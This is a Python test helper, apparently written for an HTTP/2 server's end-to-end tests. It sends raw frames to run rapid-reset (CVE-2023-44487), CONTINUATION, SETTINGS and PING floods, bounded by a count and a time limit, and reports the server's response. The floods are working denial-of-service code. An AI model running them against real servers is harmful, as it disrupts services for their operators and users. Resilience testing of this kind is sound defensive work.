#!/usr/bin/env python3
"""HTTP/2 floods against a listener, for tests/e2e/h2_attacks.rs: raw frames over a plain
socket (prior knowledge), so that what a well-behaved library refuses to send is sent.

    h2_flood.py HOST PORT ATTACK COUNT

ATTACK is one of:
  rapid_reset   HEADERS then RST_STREAM(CANCEL) on a new stream, COUNT times (CVE-2023-44487)
  continuation  one HEADERS without END_HEADERS, then COUNT CONTINUATION frames of 16 KiB
                junk that never end the header block (the CVE-2024-27316 class)
  settings      COUNT SETTINGS frames, never reading the server's ACKs
  ping          COUNT PINGs, never reading the server's ACKs

Bounded in count and in time (20 s). Prints one JSON line: what was sent, whether the
server closed the connection, and the GOAWAY error code if one was read.
"""
import json
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 0x1, 0x4
# :method GET, :scheme http, :path /, :authority "a" (HPACK static table and a literal).
HEADER_BLOCK = b"\x82\x86\x84\x41\x01a"
DEADLINE = time.monotonic() + 20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def main():
    host, port, attack, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    sock = socket.create_connection((host, port), timeout=5)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    sent, closed = 0, False
    try:
        if attack == "rapid_reset":
            batch = []
            for i in range(count):
                stream = 1 + 2 * i
                batch.append(frame(HEADERS, END_HEADERS | END_STREAM, stream, HEADER_BLOCK))
                batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
                if len(batch) >= 200:
                    sock.sendall(b"".join(batch))
                    sent += len(batch) // 2
                    batch = []
                if time.monotonic() > DEADLINE:
                    break
            sock.sendall(b"".join(batch))
            sent += len(batch) // 2
        elif attack == "continuation":
            sock.sendall(frame(HEADERS, END_STREAM, 1, HEADER_BLOCK))
            junk = frame(CONTINUATION, 0, 1, b"\x40\x01x\x7f\x7f" + b"y" * (16 * 1024 - 5))
            for _ in range(count):
                sock.sendall(junk)
                sent += 1
                if time.monotonic() > DEADLINE:
                    break
        elif attack in ("settings", "ping"):
            one = frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) if attack == "settings" else frame(PING, 0, 0, b"12345678")
            for _ in range(count // 100):
                sock.sendall(one * 100)
                sent += 100
                if time.monotonic() > DEADLINE:
                    break
        else:
            sys.exit(f"unknown attack {attack}")
    except (BrokenPipeError, ConnectionResetError, socket.timeout):
        closed = True
    # What the server said: read until it closes (bounded), looking for GOAWAY.
    goaway, buffered = None, b""
    sock.settimeout(2)
    try:
        while time.monotonic() < DEADLINE + 5:
            chunk = sock.recv(65536)
            if not chunk:
                closed = True
                break
            buffered += chunk
            while len(buffered) >= 9:
                length = int.from_bytes(buffered[:3], "big")
                if len(buffered) < 9 + length:
                    break
                if buffered[3] == GOAWAY and length >= 8:
                    goaway = int.from_bytes(buffered[13:17], "big")
                buffered = buffered[9 + length:]
    except socket.timeout:
        pass
    except (ConnectionResetError, BrokenPipeError):
        closed = True
    print(json.dumps({"attack": attack, "sent": sent, "closed": closed, "goaway": goaway}), flush=True)


if __name__ == "__main__":
    main()
